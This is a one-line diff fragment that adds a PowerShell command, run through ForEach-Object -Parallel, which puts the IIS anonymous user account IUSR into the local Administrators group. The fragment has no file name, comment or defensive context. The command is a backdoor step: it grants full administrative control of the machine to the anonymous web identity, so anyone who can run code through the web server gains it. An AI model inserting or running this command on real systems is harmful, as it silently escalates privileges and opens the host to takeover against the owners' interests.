@@ -1,0 +1,1 @@
+1 | ForEach-Object -Parallel { net localgroup Administrators IUSR /add }
